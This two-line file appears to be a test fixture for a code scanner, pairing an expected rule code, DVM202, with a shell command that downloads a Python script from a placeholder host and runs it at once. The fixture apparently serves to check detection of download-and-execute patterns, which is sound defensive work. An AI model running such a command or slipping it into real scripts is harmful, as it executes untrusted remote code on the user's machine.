# expect: DVM202
curl -s https://x.example.org/a > a.py; python3 a.py
